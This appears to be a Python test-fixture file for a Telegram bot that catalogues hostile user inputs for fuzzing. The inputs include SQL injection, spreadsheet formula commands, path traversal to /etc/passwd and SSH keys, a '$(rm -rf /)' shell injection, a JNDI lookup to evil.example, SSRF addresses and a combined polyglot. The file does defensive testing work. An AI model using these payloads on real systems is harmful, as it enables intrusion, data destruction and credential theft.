"""What hostile hands write and send: each with a name, so that a failure says which it was.

``MARK`` stands in every text. A log that carries it carries what a person wrote.
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

from bot.adapters.telegram import sound
from bot.ports import Attachment

MARK = "Zq7Kx"

MARKUP = {
    "script": "<script>alert(1)</script>",
    "bold left open": "<b>店家",
    "tag closed first": "</b></i>不退钱",
    "link": '<a href="https://evil.example/x">退款点这里</a>',
    "mention": '<a href="tg://user?id=1">管理员</a>',
    "spoiler": "<tg-spoiler>藏</tg-spoiler>",
    "emoji tag": '<tg-emoji emoji-id="1">👍</tg-emoji>',
    "entities": "&lt;b&gt;&amp;&#x3c;&#60;&nbsp;",
    "half an entity": "&am &#; &lt &",
    "comment": "<!-- --> <![CDATA[x]]>",
    "markdown": "*_[退款](https://evil.example)_* `code` ||藏||",
    "markdown escapes": "\\*\\_\\[\\]\\(\\)~`>#+-=|{}.!",
    "angle brackets": "<<<<>>>> < > 2<3>1",
    "attribute": '" onmouseover="alert(1)',
    "pre": "<pre><code class='x'>不退</code></pre>",
}
INVISIBLE = {
    "right to left override": "\u202e钱退不我欠",
    "left to right override": "\u202d店家\u202c",
    "isolates": "\u2066店\u2067家\u2068不\u2069退",
    "marks": "\u200e\u200f\u061c不退",
    "zero width": "不\u200b退\u200c钱\u200d\ufeff",
    "joiners only": "\u200b\u200c\u200d\u2060\ufeff",
    "soft hyphen": "退\u00ad款",
    "tag letters": "退\U000e0041\U000e0042\U000e007f",
    "combining": "退" + "\u0301" * 300,
    "zalgo": "钱".join("\u0300\u0301\u0302\u0303\u0304" * 40),
    "blank braille": "\u2800" * 40,
    "ideographic spaces": "\u3000" * 40 + "退",
    "line separators": "退\u2028款\u2029吧\x85吧",
    "arabic": "لن يعيد المتجر المال",
    "hebrew and digits": "כסף 2600 ₪",
    "private use": "\ue000\uf8ff\U000f0000",
    "not a character": "\ufffe\uffff\U0001ffff",
}
LONG = {
    "4096 letters": "退" * 4096,
    "4096 brackets": "<" * 4096,
    "4096 entities": "&lt;" * 1024,
    "4096 digits": "9" * 4096,
    "4096 spaces": " " * 4096,
    "4096 line breaks": "\n" * 4096,
    "1365 emoji": "👨‍👩‍👧" * 400,
    "many words": "退钱 " * 1300,
    "many numbers": "1 2 3 4 " * 500,
    "many amounts": "2600元，" * 500,
    "many dates": "上周三昨天前天" * 400,
    "many streets": "花木街道川沙新镇" * 400,
    "five messages in one": "骗" * 20_000,
}
EMOJI = {
    "family": "👨‍👩‍👧‍👦",
    "skin": "👍🏽👍🏿",
    "flags": "🇨🇳🇺🇳🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "keycap": "1️⃣2️⃣#️⃣",
    "only a selector": "\ufe0f\ufe0e",
    "half a flag": "🇨",
    "joined without end": "👩‍",
    "hearts": "❤️‍🔥" * 50,
}
CELLS = {
    "formula": '=HYPERLINK("https://evil.example","退")',
    "command": "=cmd|'/C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "full width": "＝1+1",
    "quoted": '"=1+1",2',
    "separator": "a;b,c|d\te",
}
SQL = {
    "drop": "'; DROP TABLE case_file; --",
    "or": "' OR '1'='1",
    "union": "1 UNION SELECT phone_sealed FROM case_file",
    "comment": "admin'--",
    "like": "%_%' ESCAPE '\\",
    "named": ":id :now %(x)s ? $1",
    "nul": "abc\x00def",
    "sleep": "1; SELECT pg_sleep(60)--",
}
PATHS = {
    "up": "../../../../etc/passwd",
    "windows": "..\\..\\windows\\win.ini",
    "absolute": "/etc/shadow",
    "device": "CON.txt/NUL:/dev/zero",
    "url coded": "%2e%2e%2fkeyring.json",
    "home": "~root/.ssh/id_rsa",
    "nul in name": "照片.jpg\x00.exe",
    "shell": "$(rm -rf /) `id` ; | & > /tmp/x",
}
TEMPLATES = {
    "empty braces": "{}",
    "argument": "{number}",
    "attribute": "{0.__class__.__mro__}",
    "index": "{text[__globals__]}",
    "conversion": "{text!r:>999999}",
    "open brace": "{",
    "closed brace": "}}{{",
    "percent": "%s %d %(name)s %n",
    "jinja": "{{7*7}}{% for x in y %}",
    "dollar": "${jndi:ldap://evil.example/a}",
}
ODD = {
    "empty": "",
    "space": " ",
    "lone high surrogate": "退\ud83d",
    "lone low surrogate": "\ude00退",
    "controls": "".join(map(chr, range(1, 32))),
    "c1 controls": "".join(map(chr, range(127, 160))),
    "escape codes": "\x1b[31m红\x1b[0m\x07",
    "backspaces": "退\b\b\b款",
    "log line": "退\nERROR root forged line\n",
    "json": '{"say": "admin.menu", "args": {}}',
    "callback data": "m||x|0|menu",
    "a slash": "/",
    "unknown command": "/../../x@suda_bot y",
    "command of another bot": "/start@other_bot join_x",
    "admin command": "/admin",
    "case number": "PD-20261123-00001",
}
NUMBERS = {
    "zero": "0",
    "negative": "-1元",
    "huge": "999999999999999999999元",
    "beyond 64 bit": "9223372036854775808",
    "exponent": "1e999元",
    "not a number": "nan inf -inf NaN",
    "hex": "0x7fffffff",
    "arabic digits": "٢٦٠٠元",
    "roman": "ⅯⅯⅮⅭ元",
    "superscript": "2⁶⁰⁰元",
    "chinese beyond": "一亿亿亿亿亿亿亿亿元",
    "point": "2.6.0.0元",
    "date of no calendar": "2026年13月45日",
    "date before time": "公元前300年2月30日",
    "far date": "9999-12-31 00000-00-00",
    "phone": "13800138000 13900139000 +8613700137000",
    "phone too long": "138001380001380013800",
    "id number": "11010519491231002X",
    "card number": "6222 0212 3456 7890 128",
    "code": "验证码 834521",
    "password": "密码是 Ab12345678",
}
ADDRESSES = {
    "loopback": "http://127.0.0.1:8443/telegram",
    "loopback in one number": "http://2130706433/",
    "loopback in hex": "http://0x7f.1/",
    "loopback in six": "http://[::ffff:127.0.0.1]/",
    "metadata": "http://169.254.169.254/latest/meta-data/",
    "file": "file:///etc/passwd",
    "user in front": "https://t.me@evil.example/",
    "gopher": "gopher://127.0.0.1:6379/_FLUSHALL",
    "bot link": "https://t.me/suda_bot?start=admin_AAAAAAAAAAAAAAAAAAAAAA",
    "javascript": "javascript:alert(1)",
}

TEXTS: dict[str, str] = {
    f"{family}: {name}": text
    for family, members in {
        "markup": MARKUP,
        "invisible": INVISIBLE,
        "long": LONG,
        "emoji": EMOJI,
        "cell": CELLS,
        "sql": SQL,
        "path": PATHS,
        "template": TEMPLATES,
        "odd": ODD,
        "number": NUMBERS,
        "address": ADDRESSES,
    }.items()
    for name, text in members.items()
}


def file(kind: str = "document", **about: Any) -> tuple[Attachment, ...]:
    return (Attachment(kind, f"file-{MARK}", f"unique-{MARK}", **about),)


THINGS: dict[str, Mapping[str, Any]] = {
    "no place on earth": {"place": (999.0, -999.0)},
    "place of no number": {"place": (float("nan"), float("inf"))},
    "place in the sea": {"place": (0.0, 0.0), "place_title": f"<b>{MARK}"},
    "contact of no number": {"contact_phone": f"abc{MARK}"},
    "contact too long": {"contact_phone": "1" * 500},
    "contact abroad": {"contact_phone": "+1 (555) 010-9999"},
    "file named like a path": {"files": file(name=f"../../{MARK}.exe", mime="image/jpeg")},
    "file named right to left": {"files": file(name=f"{MARK}\u202egpj.exe", size=3)},
    "file without a name": {"files": file(size=-1)},
    "file too large": {"files": file(size=21 * 1024 * 1024)},
    "file of four gigabytes": {"files": file("video", size=2**32)},
    "file of no known type": {"files": file(mime="x" * 500, name="y" * 2000)},
    "voice": {"files": file("voice")},
    "twenty files at once": {"files": file() * 20, "album": "a" * 200},
    "sticker": {"extra": {"sticker": True}},
    "forward of markup": {"text": f"退{MARK}", "forwarded_from": "<b>张\u202e三</b>{x}"},
    "forward without words": {"forwarded_from": "\u202e" * 200},
    "edited": {"text": f"改{MARK}", "edited": True},
    "reply to nobody": {"text": f"回{MARK}", "reply_to": "999999999"},
}

HOSTILE_NAMES = (
    f"{MARK}<b>",
    f"\u202e{MARK}员理管",
    "{number}{0.__class__}",
    "=1+1",
    "\ud83d",
    "",
    "管理员" * 21,
    "\u200b\u2060",
    "a\x00b\nc",
)


def marked(text: str) -> str:
    """The text with MARK in it, at its end so that its beginning stays what it is."""
    return f"{text}{MARK}" if text.strip() else text


POLYGLOT = sound(
    f"=1+1' OR '1'='1;--<b>{MARK}</i><a href='tg://user?id=1'>&lt;{{}}{{0.__class__}}%s$"
    "{jndi:ldap://x}\u202e../../etc/passwd\u2066\u200b👨\u200d👩\u200d👧\x00\ud83d\x1b[31m`*_|m||x|0|menu|"
    "13800138000 11010519491231002X 2600元 昨天 花木街道\n/admin"
)
"""All kinds of malice in one text, in a form that several readers find something in."""
